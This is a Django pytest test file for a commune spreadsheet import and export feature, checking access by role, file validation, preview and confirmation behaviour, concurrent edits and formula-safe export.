def test_only_administrators_may_import(demo_baseline, client_as, role, settings):
    client = client_as(role)
    content = xlsx(HEADERS, [row_for(DAK_MAN, **{"Dân số": 1})])
    before = db_state()

    assert client.get(reverse("communes:commune_import")).status_code == 403
    assert client.get(reverse("communes:commune_template")).status_code == 403
    assert client.post(reverse("communes:commune_import"), {"file": upload(content)}).status_code == 403
    assert client.post(reverse("communes:commune_import"), {"token": "x" * 32}).status_code == 403
    # Only staff reach the admin at all: everyone else is sent to the admin's login page.
    response = client.get(ADMIN_IMPORT_URL)
    assert response.status_code == 302
    assert "/admin/login/" in response["Location"]
    response = client.post(ADMIN_IMPORT_URL, {"resource": "0", "format": "0", "import_file": upload(content)})
    assert response.status_code == 302
    assert "/admin/login/" in response["Location"]
    assert db_state() == before
    assert stored_uploads(settings) == []


@pytest.mark.django_db
def test_an_administrators_token_is_useless_to_another_user(demo_baseline, client, users):
    client.force_login(users["administrator"])
    response = preview(client, xlsx(HEADERS, [row_for(DAK_MAN, **{"Dân số": 1})]))
    token = response.context["token"]
    before = db_state()

    client.force_login(users["committee"])
    assert confirm(client, token).status_code == 403
    assert db_state() == before


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("method", "url"),
    [
        ("get", IMPORT_URL),
        ("post", IMPORT_URL),
        ("get", "/communes/import/template.xlsx"),
        ("get", "/communes/export.xlsx"),
        ("get", ADMIN_IMPORT_URL),
    ],
)
def test_anonymous_users_are_sent_to_the_login_page(demo_baseline, client, method, url):
    before = db_state()
    data = {"file": upload(xlsx(HEADERS, [row_for(DAK_MAN, **{"Dân số": 1})]))} if method == "post" else None

    response = getattr(client, method)(url, data)

    assert response.status_code == 302
    assert "/login/" in response["Location"]
    assert db_state() == before


@pytest.mark.django_db
@pytest.mark.parametrize("role", ["committee", "provincial_clerk", "district_clerk"])
def test_every_role_may_export_but_no_role_may_not(demo_baseline, client_as, role):
    assert client_as(role).get(reverse("communes:commune_export")).status_code == 200


@pytest.mark.django_db
def test_a_user_without_a_role_may_not_export(demo_baseline, client_as):
    assert client_as("no_role").get(reverse("communes:commune_export")).status_code == 403


# --- the admin import ----------------------------------------------------------------------------------


def admin_preview(client, content: bytes, name: str = "xa.xlsx"):
    return client.post(ADMIN_IMPORT_URL, {"resource": "0", "format": "0", "import_file": upload(content, name)})


@pytest.mark.django_db
def test_admin_import_good_file(demo_baseline, administrator, django_capture_on_commit_callbacks):
    content = xlsx(
        HEADERS,
        [row_for(DAK_MAN, **{"Có CA chính quy từ ngày": "15/03/2021", "Dân số": " 3.500 "}), row_for(DAK_PEK)],
        blank_rows_after=(0,),
    )
    before = db_state()

    response = admin_preview(administrator, content)

    assert response.status_code == 200
    assert not response.context["form"].errors
    result = response.context["result"]
    assert not result.has_errors()
    assert not result.has_validation_errors()
    assert [row.import_type for row in result.rows] == ["update", "skip"]
    confirm_form = response.context["confirm_form"]
    assert confirm_form is not None
    assert db_state() == before

    data = {
        name: confirm_form.initial[name] for name in ("import_file_name", "original_file_name", "format", "resource")
    }
    with django_capture_on_commit_callbacks(execute=True):
        response = administrator.post(ADMIN_PROCESS_URL, data)

    assert response.status_code == 302
    assert response["Location"] == reverse("admin:communes_commune_changelist")
    commune = Commune.objects.get(code=DAK_MAN)
    assert (commune.population, commune.baseline_covered_on) == (3500, datetime.date(2021, 3, 15))
    assert commune.coverage == Coverage.BASELINE
    assert commune.is_demo is False
    assert Commune.objects.get(code=DAK_PEK).is_demo is True


@pytest.mark.django_db
def test_admin_import_bad_file_shows_errors_and_writes_nothing(demo_baseline, administrator):
    content = xlsx(
        HEADERS,
        [
            row_for(TT_DAK_GLEI, **{"Dân số": 9000}),
            row_for(DAK_MAN, **{"Mã xã": 99999}),
            row_for(DAK_PEK, **{"Dân số": "abc"}),
            row_for(DAK_CHOONG, **{"Mã huyện": NGOC_HOI}),
        ],
    )
    before = db_state()

    response = admin_preview(administrator, content)

    assert response.status_code == 200
    result = response.context["result"]
    assert result.has_validation_errors()
    assert response.context.get("confirm_form") is None
    invalid = {row.number: row.error_dict for row in result.invalid_rows}
    assert set(invalid) == {2, 3, 4}
    assert "code" in invalid[2]
    assert "population" in invalid[3]
    assert "district_id" in invalid[4]
    html = response.content.decode()
    assert "99999" in html
    assert "abc" in html
    assert db_state() == before


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "content", "text"),
    [
        ("xa.csv", b"Ma xa,Dan so\n23347,1\n", "Only Excel workbooks"),
        ("xa.xlsx", b"Ma xa,Dan so\n23347,1\n", "not an Excel workbook"),
        ("xa.xlsx", _broken_zip(), "damaged"),
        ("xa.xlsx", xlsx(HEADERS, []), "no data rows"),
        ("xa.xlsx", xlsx(["Dân số"], [[1]]), "Mã xã"),
    ],
    ids=["csv", "text-renamed", "broken-zip", "no-rows", "missing-code-column"],
)
def test_admin_import_refuses_unusable_files(demo_baseline, administrator, name, content, text):
    before = db_state()

    response = admin_preview(administrator, content, name)

    assert response.status_code == 200
    errors = " ".join(response.context["form"].errors.get("import_file", []))
    assert text in errors
    assert response.context.get("confirm_form") is None
    assert db_state() == before


@pytest.mark.django_db
def test_admin_import_refuses_a_file_over_the_size_limit(demo_baseline, administrator, settings):
    content = xlsx(HEADERS, [row_for(DAK_MAN, **{"Dân số": 1})])
    settings.IMPORT_MAX_UPLOAD_BYTES = 100
    before = db_state()

    response = admin_preview(administrator, content)

    assert "too large" in " ".join(response.context["form"].errors["import_file"])
    assert db_state() == before


@pytest.mark.django_db
def test_admin_export_is_formula_safe_and_imports_back(demo_baseline, administrator):
    Commune.objects.filter(code=DAK_MAN).update(name="=1+1")
    response = administrator.post(
        "/admin/communes/commune/export/",
        {
            "resource": "0",
            "format": "0",
            **{
                f"communeresource_{f}": "on"
                for f in (
                    "code",
                    "name",
                    "kind",
                    "district_code",
                    "district_name",
                    "is_key_area",
                    "is_border",
                    "border_country",
                    "population",
                    "staffing_norm",
                    "baseline_covered_on",
                    "coverage",
                )
            },
        },
    )

    assert response.status_code == 200, response.content[:500]
    headers, *rows = sheet_rows(response.content)
    assert list(headers) == HEADERS
    by_code = {row[0]: row for row in rows}
    assert by_code[DAK_MAN][1] == "'=1+1"
    before = db_state()
    preview_response = preview(administrator, response.content)
    assert preview_response.status_code == 200, errors_by_row(preview_response)
    assert preview_response.context["report"].totals["unchanged"] == 102
    assert db_state() == before


@pytest.mark.django_db
def test_admin_import_confirm_writes_nothing_if_a_row_went_bad(demo_baseline, administrator):
    content = xlsx(HEADERS, [row_for(DAK_MAN, **{"Dân số": 100}), row_for(DAK_PEK, **{"Dân số": 200})])
    response = admin_preview(administrator, content)
    confirm_form = response.context["confirm_form"]
    data = {
        name: confirm_form.initial[name] for name in ("import_file_name", "original_file_name", "format", "resource")
    }
    # Between preview and confirm, the second commune disappears: the first row must not be written alone.
    Commune.objects.filter(code=DAK_PEK).delete()
    before = db_state()

    response = administrator.post(ADMIN_PROCESS_URL, data)

    assert response.status_code == 302
    assert response["Location"] == ADMIN_IMPORT_URL
    assert db_state() == before
    assert Commune.objects.get(code=DAK_MAN).population is None
    follow = administrator.get(response["Location"])
    assert any("Nothing was written" in m for m in messages_of(follow))


@pytest.mark.django_db
def test_admin_import_confirm_with_a_vanished_file_fails_cleanly(demo_baseline, administrator):
    before = db_state()

    response = administrator.post(
        ADMIN_PROCESS_URL,
        {"import_file_name": "does-not-exist.xlsx", "original_file_name": "xa.xlsx", "format": "0", "resource": "0"},
    )

    assert response.status_code == 302
    assert response["Location"] == ADMIN_IMPORT_URL
    assert db_state() == before


@pytest.mark.django_db
def test_admin_import_refuses_an_unknown_column(demo_baseline, administrator):
    before = db_state()

    response = admin_preview(administrator, xlsx(["Mã xã", "Dan so"], [[DAK_MAN, 5]]))

    assert "Dan so" in " ".join(response.context["form"].errors["import_file"])
    assert response.context.get("confirm_form") is None
    assert db_state() == before


# --- a file changes only what it says (issue 12) -------------------------------------------------------


def filled_template(administrator, rows) -> bytes:
    """The downloaded template with ``rows`` of {column: value} filled in; every other cell left empty."""
    workbook = load_workbook(io.BytesIO(administrator.get(reverse("communes:commune_template")).content))
    sheet = workbook.worksheets[0]
    headers = [cell.value for cell in sheet[1]]
    for values in rows:
        sheet.append([values.get(header) for header in headers])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def changes_of(response) -> dict[int, dict[str, tuple]]:
    return {row.number: {c[0]: (c[1], c[2]) for c in row.changes} for row in response.context["report"].rows}


@pytest.mark.django_db
def test_the_template_filled_with_only_code_and_population_changes_only_the_population(
    demo_baseline, administrator, django_capture_on_commit_callbacks
):
    """The friction of issue 12: the blank "Có CA chính quy từ ngày" and "Trọng điểm ANTT" cells cleared the
    baseline date of two communes and turned a key area off. A blank cell now changes nothing."""
    before = {row["code"]: row for row in db_state()}
    assert before[DAK_BLO]["is_key_area"] and before[DAK_BLO]["baseline_covered_on"]
    assert before[TT_DAK_GLEI]["baseline_covered_on"]
    content = filled_template(
        administrator,
        [
            {"Mã xã": DAK_BLO, "Dân số": 4100},
            {"Mã xã": TT_DAK_GLEI, "Dân số": 9800},
            {"Mã xã": DAK_MAN, "Dân số": 2300},
        ],
    )

    response = preview(administrator, content)

    assert response.status_code == 200
    assert changes_of(response) == {
        2: {"Dân số": (None, 4100)},
        3: {"Dân số": (None, 9800)},
        4: {"Dân số": (None, 2300)},
    }
    assert response.context["report"].lost_values == 0
    assert 'data-change="cleared"' not in response.content.decode()
    with django_capture_on_commit_callbacks(execute=True):
        assert confirm(administrator, response.context["token"]).status_code == 302

    after = {row["code"]: row for row in db_state()}
    for code, population in ((DAK_BLO, 4100), (TT_DAK_GLEI, 9800), (DAK_MAN, 2300)):
        assert after[code]["population"] == population
        for column in ("is_key_area", "is_border", "border_country", "staffing_norm", "baseline_covered_on"):
            assert after[code][column] == before[code][column], (code, column)
    assert Commune.objects.filter(coverage=Coverage.UNCOVERED).count() == 54


@pytest.mark.django_db
@pytest.mark.parametrize("marker", ["(xóa)", "(xoá)", "(XÓA)", " ( Xoá ) "])
def test_the_clear_marker_clears_a_date_and_turns_a_yes_off(demo_baseline, administrator, marker):
    content = xlsx(["Mã xã", "Có CA chính quy từ ngày", "Trọng điểm ANTT"], [[DAK_BLO, marker, marker]])

    response = preview(administrator, content)

    row = response.context["report"].rows[0]
    assert {c.column: c.kind for c in row.shown_changes} == {"Có CA chính quy từ ngày": "cleared",
                                                            "Trọng điểm ANTT": "off"}  # fmt: skip
    confirm(administrator, response.context["token"])
    dak_blo = Commune.objects.get(code=DAK_BLO)
    assert (dak_blo.baseline_covered_on, dak_blo.is_key_area) == (None, False)


@pytest.mark.django_db
def test_the_clear_marker_on_the_code_is_an_error_of_its_row(demo_baseline, administrator):
    before = db_state()

    response = preview(administrator, xlsx(["Mã xã", "Dân số"], [[DAK_MAN, 10], ["(xóa)", 20]]))

    assert response.status_code == 400
    assert errors_by_row(response) == {3: [("Mã xã", "(xóa)", "“Mã xã” is required: it cannot be cleared with (xóa).")]}
    assert db_state() == before


@pytest.mark.django_db
def test_headers_in_capitals_with_spaces_or_decomposed_are_the_known_columns(demo_baseline, administrator):
    headers = ["MÃ XÃ", " Dân số ", unicodedata.normalize("NFD", "Trọng điểm ANTT"), "mã HUYỆN"]

    response = preview(administrator, xlsx(headers, [[DAK_MAN, 1500, "x", DAK_GLEI]]))

    assert response.status_code == 200, response.context["form"].errors
    assert changes_of(response) == {2: {"Dân số": (None, 1500), "Trọng điểm ANTT": ("Không", "Có")}}


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("cell", "expected"),
    [("x", True), ("c", True), ("CÓ", True), ("yes", True), (1, True), ("k", False), ("không", False), ("0", False),
     ("KO", False)],
)  # fmt: skip
def test_yes_no_cells_accept_their_usual_variants(demo_baseline, administrator, cell, expected):
    Commune.objects.filter(code=DAK_MAN).update(is_key_area=not expected)

    response = preview(administrator, xlsx(["Mã xã", "Trọng điểm ANTT"], [[DAK_MAN, cell]]))

    assert statuses(response) == {2: "changed"}
    confirm(administrator, response.context["token"])
    assert Commune.objects.get(code=DAK_MAN).is_key_area is expected


@pytest.mark.django_db
def test_the_preview_opens_on_a_summary_lists_errors_and_changes_first_and_names_each_record(
    demo_baseline, administrator
):
    content = xlsx(
        ["Mã xã", "Dân số", "Trọng điểm ANTT", "Có CA chính quy từ ngày"],
        [
            [DAK_PEK, None, None, None],  # row 2: unchanged
            [DAK_MAN, 1500, None, None],  # row 3: changed
            [99999, 10, None, None],  # row 4: unknown commune
            [DAK_BLO, None, "Không", "(xóa)"],  # row 5: a key area turned off and a date cleared
            [XOP, None, None, None],  # row 6: unchanged
        ],
    )

    response = preview(administrator, content)

    report = response.context["report"]
    assert report.totals == {"new": 0, "changed": 2, "unchanged": 2, "error": 1}
    assert [row.number for row in report.ordered_rows] == [4, 3, 5, 2, 6]
    assert {row.number: row.label for row in report.rows} == {
        2: f"{DAK_PEK} · Xã Đắk Pék", 3: f"{DAK_MAN} · Xã Đắk Man", 4: "99999", 5: f"{DAK_BLO} · Xã Đắk Blô",
        6: f"{XOP} · Xã Xốp",
    }  # fmt: skip
    assert report.lost_values == 2
    html = response.content.decode()
    summary = html.index('data-testid="import-summary"')
    assert summary < html.index("<table") < html.index('data-testid="import-upload"')  # the preview first
    assert 'data-testid="total-error">Error: 1' in html
    assert "2 values would be cleared or turned off" in html
    # Rows in the page in the same order, errors first; the cleared and turned-off values marked apart.
    assert [html.index(f'data-row="{n}"') for n in (4, 3, 5, 2, 6)] == sorted(
        html.index(f'data-row="{n}"') for n in (4, 3, 5, 2, 6)
    )
    assert html.count('data-change="cleared"') == 1
    assert html.count('data-change="off"') == 1
    assert html.count('data-change="changed"') == 1
    assert 'id="preview-rows-attention" value="attention" checked' in html
    assert "Errors and changes (3)" in html and "All rows (5)" in html


@pytest.mark.django_db
def test_the_confirmation_writes_only_what_the_preview_showed(demo_baseline, administrator):
    """Someone sets the population between the preview (— → 1500) and the confirmation: the import would now
    do something else (900 → 1500), so nothing is written and the new preview is shown to confirm again."""
    response = preview(administrator, xlsx(["Mã xã", "Dân số"], [[DAK_MAN, 1500]]))
    assert changes_of(response) == {2: {"Dân số": (None, 1500)}}
    Commune.objects.filter(code=DAK_MAN).update(population=900)

    response = confirm(administrator, response.context["token"])

    assert response.status_code == 409
    assert Commune.objects.get(code=DAK_MAN).population == 900
    assert changes_of(response) == {2: {"Dân số": (900, 1500)}}
    assert any("changed since the preview" in m for m in messages_of(response))
    assert confirm(administrator, response.context["token"]).status_code == 302
    assert Commune.objects.get(code=DAK_MAN).population == 1500


@pytest.mark.django_db
def test_the_template_has_an_instruction_sheet_on_blank_cells_and_the_clear_marker(demo_baseline, client_as):
    response = client_as("administrator").get(reverse("communes:commune_template"))

    workbook = load_workbook(io.BytesIO(response.content))
    assert [sheet.title for sheet in workbook.worksheets] == ["Xã", "Hướng dẫn"]
    text = "\n".join(str(v) for row in workbook.worksheets[1].iter_rows(values_only=True) for v in row if v)
    assert "(xóa)" in text
    assert "ô trống" in text.lower()
    assert "Mã xã" in text and "Có CA chính quy từ ngày" in text


@pytest.mark.django_db
def test_the_preview_of_values_cleared_and_turned_off_speaks_vietnamese(demo_baseline, client_as):
    content = xlsx(["Mã xã", "Trọng điểm ANTT", "Có CA chính quy từ ngày"], [[DAK_BLO, "k", "(xóa)"], ["(xóa)", 1, 2]])

    html = preview(client_as("administrator"), content).content.decode()

    for text in ("Tóm tắt", "2 dòng", "Lỗi: 1", "Lỗi và thay đổi (2)", "Tất cả các dòng (2)", "sẽ bị xóa",
                 "chuyển sang Không", "2 giá trị sẽ bị xóa hoặc chuyển sang Không",
                 "“Mã xã” là cột bắt buộc: không thể xóa bằng (xóa).", f"{DAK_BLO} · Xã Đắk Blô"):  # fmt: skip
        assert text in html, text


@pytest.mark.django_db
def test_a_post_with_only_the_csrf_token_writes_nothing(demo_baseline, users):
    client = in_english(Client(enforce_csrf_checks=True))
    client.force_login(users["administrator"])
    client.get(reverse("communes:commune_import"))
    token = client.cookies[django_settings.CSRF_COOKIE_NAME].value
    before = db_state()

    response = client.post(reverse("communes:commune_import"), {"csrfmiddlewaretoken": token})

    assert response.status_code == 400
    assert response.context["form"].errors["file"]
    assert "import-preview" not in response.content.decode()
    assert db_state() == before


@pytest.mark.django_db
def test_a_partly_filled_row_changes_only_its_filled_cells_and_the_same_confirmation_twice_writes_once(
    demo_baseline, administrator
):
    response = preview(administrator, xlsx(HEADERS, [[DAK_MAN] + [None] * 7 + [1234, None, None, None]]))
    token = response.context["token"]
    assert changes_of(response) == {2: {"Dân số": (None, 1234)}}

    assert confirm(administrator, token)["Location"] == reverse("communes:commune_list")
    written = db_state()
    again = confirm(administrator, token)

    assert again["Location"] == reverse("communes:commune_import")
    assert db_state() == written


@pytest.mark.django_db
def test_a_commune_off_the_border_keeps_its_country_unless_the_file_clears_it(demo_baseline, administrator):
    """A blank "Nước giáp biên" keeps Lào, which a commune off the border cannot have: the error says how to clear
    it, and ``(xóa)`` does."""
    response = preview(administrator, xlsx(["Mã xã", "Biên giới", "Nước giáp biên"], [[DAK_BLO, "Không", None]]))

    message = "Only a border commune has a neighbouring country: set “Biên giới” to Có or clear the country with (xóa)."
    assert errors_by_row(response) == {2: [("Nước giáp biên", None, message)]}

    response = preview(administrator, xlsx(["Mã xã", "Biên giới", "Nước giáp biên"], [[DAK_BLO, "Không", "(xóa)"]]))
    assert {c.column: c.kind for c in response.context["report"].rows[0].shown_changes} == {
        "Biên giới": "off", "Nước giáp biên": "cleared"
    }  # fmt: skip
    confirm(administrator, response.context["token"])
    assert Commune.objects.values_list("is_border", "border_country").get(code=DAK_BLO) == (False, "")


# --- the confirmation writes what the preview validated, in bulk ------------------------------------------------


@pytest.fixture
def no_second_import(monkeypatch):
    """From here on, importing a file row by row (django-import-export) fails the test: the confirmation must write
    what the preview validated without going through the rows again."""
    from import_export.resources import Resource

    def refuse(self, *args, **kwargs):
        raise AssertionError("the file was imported again")

    def arm():
        monkeypatch.setattr(Resource, "import_data", refuse)

    return arm


@pytest.mark.django_db
def test_the_confirmation_writes_the_previewed_rows_in_bulk_without_importing_the_file_again(
    demo_baseline, administrator, no_second_import, django_capture_on_commit_callbacks
):
    content = xlsx(
        ["Mã xã", "Dân số", "Có CA chính quy từ ngày", "Trọng điểm ANTT", "Định biên"],
        [
            [DAK_MAN, 3500, "15/03/2021", None, 4],
            [DAK_PEK, None, None, "x", None],
            [DAK_CHOONG, None, None, None, None],
        ],
    )
    response = preview(administrator, content)
    assert statuses(response) == {2: "changed", 3: "changed", 4: "unchanged"}
    no_second_import()
    untouched = Commune.objects.filter(code=DAK_CHOONG).values().get()

    with django_capture_on_commit_callbacks(execute=True):
        response = confirm(administrator, response.context["token"])

    assert response.status_code == 302
    assert response["Location"] == reverse("communes:commune_list")
    dak_man = Commune.objects.get(code=DAK_MAN)
    assert (dak_man.population, dak_man.baseline_covered_on, dak_man.staffing_norm, dak_man.is_demo) == (
        3500, datetime.date(2021, 3, 15), 4, False
    )  # fmt: skip
    assert dak_man.coverage == Coverage.BASELINE  # the coverage task ran on commit, as after a row-by-row import
    assert Commune.objects.values_list("is_key_area", "is_demo").get(code=DAK_PEK) == (True, False)
    assert Commune.objects.filter(code=DAK_CHOONG).values().get() == untouched  # unchanged: not written at all
    from rollout.progress.states import commune_states_differences

    assert commune_states_differences(limit=1)[0] == 0  # the new norm's state refreshed in the same transaction


@pytest.mark.django_db
def test_a_commune_edited_between_preview_and_confirmation_is_refused_and_nothing_is_written(
    demo_baseline, administrator, users, no_second_import
):
    """A clerk turns Đắk Blô's key-area flag off (through the commune's page service) after the preview of a file
    that turns it off too: the file now changes something else than it showed, so nothing of the file is written
    and the new preview is shown to confirm again."""
    from communes.services import commune_update

    content = xlsx(["Mã xã", "Trọng điểm ANTT", "Dân số"], [[DAK_BLO, "k", 4100], [DAK_MAN, None, 2300]])
    response = preview(administrator, content)
    assert changes_of(response) == {2: {"Trọng điểm ANTT": ("Có", "Không"), "Dân số": (None, 4100)},
                                    3: {"Dân số": (None, 2300)}}  # fmt: skip
    commune_update(commune=Commune.objects.get(code=DAK_BLO), user=users["administrator"], is_key_area=False)
    before = db_state()

    response = confirm(administrator, response.context["token"])

    assert response.status_code == 409
    assert any("changed since the preview" in m for m in messages_of(response))
    assert db_state() == before
    assert changes_of(response) == {2: {"Dân số": (None, 4100)}, 3: {"Dân số": (None, 2300)}}
    no_second_import()  # the new preview's plan is written as it stands
    assert confirm(administrator, response.context["token"]).status_code == 302
    assert Commune.objects.values_list("population", flat=True).get(code=DAK_BLO) == 4100
    assert Commune.objects.values_list("population", flat=True).get(code=DAK_MAN) == 2300


@pytest.mark.django_db
def test_a_change_the_file_does_not_see_is_written_with_it(demo_baseline, administrator, users):
    """Someone sets another attribute of a commune the file names: the records differ from the preview's, so the
    file is previewed again; that preview shows the same, so the confirmation writes it (and keeps the edit)."""
    from communes.services import commune_update

    response = preview(administrator, xlsx(["Mã xã", "Dân số"], [[DAK_MAN, 1500]]))
    commune_update(commune=Commune.objects.get(code=DAK_MAN), user=users["administrator"], staffing_norm=9)

    response = confirm(administrator, response.context["token"])

    assert response.status_code == 302
    assert Commune.objects.values_list("population", "staffing_norm").get(code=DAK_MAN) == (1500, 9)


@pytest.mark.django_db
def test_the_same_confirmation_posted_twice_writes_once(demo_baseline, administrator, no_second_import):
    response = preview(administrator, xlsx(["Mã xã", "Dân số"], [[DAK_MAN, 1500]]))
    token = response.context["token"]
    no_second_import()
    assert confirm(administrator, token)["Location"] == reverse("communes:commune_list")
    Commune.objects.filter(code=DAK_MAN).update(population=7)  # someone's later change is not overwritten

    again = confirm(administrator, token)

    assert again.status_code == 302 and again["Location"] == IMPORT_URL
    assert any("expired or was already confirmed" in m for m in messages_of(administrator.get(IMPORT_URL)))
    assert Commune.objects.values_list("population", flat=True).get(code=DAK_MAN) == 7


@pytest.mark.django_db
def test_the_confirmation_takes_as_many_queries_for_every_commune_of_the_province_as_for_three(
    demo_baseline, administrator
):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    def confirmation_queries(codes, norm: int) -> int:
        rows = [[code, 1000 * norm + index, norm] for index, code in enumerate(codes)]
        response = preview(administrator, xlsx(["Mã xã", "Dân số", "Định biên"], rows))
        assert response.context["report"].totals["changed"] == len(codes)
        with CaptureQueriesContext(connection) as queries:
            assert confirm(administrator, response.context["token"]).status_code == 302
        return len(queries)

    codes = list(Commune.objects.order_by("code").values_list("code", flat=True))
    assert len(codes) == 102
    # On SQLite Django's bulk_update splits its statement by the number of variables SQLite takes: a few more.
    slack = 0 if connection.vendor == "postgresql" else 3
    assert confirmation_queries(codes, 3) <= confirmation_queries(codes[:3], 4) + slack
    assert Commune.objects.filter(staffing_norm=3).count() == 99


@pytest.mark.django_db
def test_a_preview_of_many_rows_lists_the_first_ones_errors_and_changes_first(demo_baseline, administrator, settings):
    settings.IMPORT_PREVIEW_SHOWN_ROWS = 2
    content = xlsx(["Mã xã", "Dân số"], [[DAK_MAN, None], [DAK_PEK, 10], [99_999, 5], [DAK_CHOONG, 20]])

    response = preview(administrator, content)

    html = response.content.decode()
    assert [row.number for row in response.context["preview_rows"]] == [4, 3]  # the error, then the first change
    assert html.count("data-status=") == 2
    assert "The first 2 rows are shown, errors and changes first; 2 more rows are not shown here." in html
    assert 'data-testid="total-changed">Changed: 2<' in html  # the totals count every row
